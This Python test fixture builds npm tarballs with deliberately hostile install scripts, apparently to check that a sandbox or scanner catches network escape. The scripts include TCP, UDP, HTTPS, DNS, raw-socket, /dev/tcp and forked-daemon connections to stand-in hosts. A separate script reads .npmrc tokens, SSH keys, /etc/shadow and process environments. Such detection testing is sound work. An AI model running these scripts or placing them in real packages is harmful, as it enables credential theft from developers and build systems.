"""npm packages whose install scripts do what none should; each is made for one fault.

`pack(name)` gives the tarball of one, `TOLD` what has to be said of those that try to get out.
"""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from typing import Dict, Mapping

_PYTHON = "python3 -c '{}'"
_CONNECT = 'import socket; socket.socket().connect(("198.51.100.7", 443))'

OUTWARD: Mapping[str, str] = {
    "by-tcp": 'node -e \'require("net").connect(443, "198.51.100.7")\'',
    "by-udp": _PYTHON.format(
        'import socket; socket.socket(2, 2).sendto(b"x", ("198.51.100.7", 9))'
    ),
    "by-name": 'node -e \'require("https").get("https://downloads.example/a.node")\'',
    "by-question": 'node -e \'require("dns").resolve4("dns.example", () => process.exit(1))\'',
    "by-raw-socket": _PYTHON.format("import socket; socket.socket(2, 3, 1)"),
    "by-bash": "bash -c 'exec 3<>/dev/tcp/198.51.100.7/80'",
    "by-python-child": 'sh -c "' + _PYTHON.format(_CONNECT).replace('"', '\\"') + '"',
    "by-daemon": f"python3 -c 'import os; os.fork() and os._exit(0); os.setsid(); {_CONNECT}' & sleep 2",
    "swallows": "node fetch.js",
}
TOLD: Mapping[str, str] = {
    **dict.fromkeys(("by-tcp", "by-python-child", "by-daemon"), "198.51.100.7:443"),
    "by-udp": "198.51.100.7:9",
    "by-name": "downloads.example",
    "by-question": "dns.example",
    "by-raw-socket": "a raw socket",
    "by-bash": "198.51.100.7:80",
    "swallows": "downloads.example",
}
_SWALLOWS = """
require('https').get('https://downloads.example/binding.node').on('error', () => {
  require('fs').writeFileSync('binding.node', '<html>not found</html>');
});
"""
CANARY = "canary-" + "of-the-user"
CURIOUS = """
const fs = require('fs');
const read = (path) => { try { return fs.readFileSync(path, 'latin1'); } catch (error) { return error.code; } };
const found = { env: process.env };
for (const path of ['/root/.npmrc', '/home/build/.npmrc', process.env.HOME + '/.npmrc', '/root/.ssh/id_rsa',
  '/proc/1/environ', '/proc/self/environ', '/etc/shadow', '%s/.npmrc', '%s/.ssh/id_ed25519']) found[path] = read(path);
fs.writeFileSync('found.json', JSON.stringify(found));
"""


def tarball(name: str, files: Mapping[str, str], script: str) -> bytes:
    manifest = {"name": name, "version": "1.0.0", "scripts": {"install": script}}
    texts = {"package.json": json.dumps(manifest), "index.js": "exports.ok = true\n", **files}
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for path, text in sorted(texts.items()):
            info = tarfile.TarInfo(f"package/{path}")
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
    return gzip.compress(packed.getvalue(), mtime=0)


def outward() -> Dict[str, bytes]:
    return {
        name: tarball(name, {"fetch.js": _SWALLOWS} if name == "swallows" else {}, script)
        for name, script in OUTWARD.items()
    }
